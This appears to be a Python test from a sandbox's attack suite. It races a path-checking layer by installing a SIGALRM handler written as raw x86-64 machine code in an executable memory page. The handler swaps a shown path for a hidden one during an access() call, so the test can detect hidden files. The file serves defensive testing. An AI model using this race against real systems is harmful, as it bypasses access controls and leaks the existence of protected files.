"""A signal that changes a path while the call that has it waits tells nothing of hidden files.

In the tier that answers for paths, the answer is for the path as it was read: a call that a signal interrupts must be
asked for again.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import signal
import struct
import time

from tests.attacks.lab import Absent, Lab

NUMBERS = (11,)


def attack(lab: Lab) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    shown, hidden = os.fsencode(os.getcwd()) + b"/x\0", os.fsencode(lab.hidden) + b"\0"
    path = ctypes.create_string_buffer(max(len(shown), len(hidden)))
    libc.signal.argtypes = (ctypes.c_int, ctypes.c_void_p)
    code = _copying(ctypes.addressof(path), hidden)
    libc.signal(signal.SIGALRM, ctypes.addressof(ctypes.c_char.from_buffer(code)))
    end = time.process_time() + 0.4
    tries = 0
    while time.process_time() < end and tries < 20_000:
        tries += 1
        ctypes.memmove(path, shown, len(shown))
        signal.setitimer(signal.ITIMER_REAL, 1e-6 * (1 + tries % 60))
        found = libc.access(path, 0)
        signal.setitimer(signal.ITIMER_REAL, 0)
        if found == 0:
            return f"it is there, after {tries} tries"
    return ""


def _copying(target: int, source: bytes) -> mmap.mmap:
    """A handler that copies bytes, in machine code: one in Python would wait for the interpreter that it interrupts."""
    if platform.machine() != "x86_64":
        raise Absent("the handler's code is for x86-64")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    registers = struct.pack("<HQHQBI", 0xBF48, target, 0xBE48, start + 64, 0xB9, len(source))  # rdi, rsi, ecx
    page[: len(registers) + 3] = registers + b"\xf3\xa4\xc3"  # rep movsb, ret
    page[64 : 64 + len(source)] = source
    return page


def control(lab: Lab, secret: str) -> str:
    """A look at the path that is not repeated where the call is: checked once, used later."""
    path = [lab.shared]
    known = path[0].startswith(lab.shared)
    path[0] = lab.hidden
    return "it is there" if known and os.path.exists(path[0]) else ""
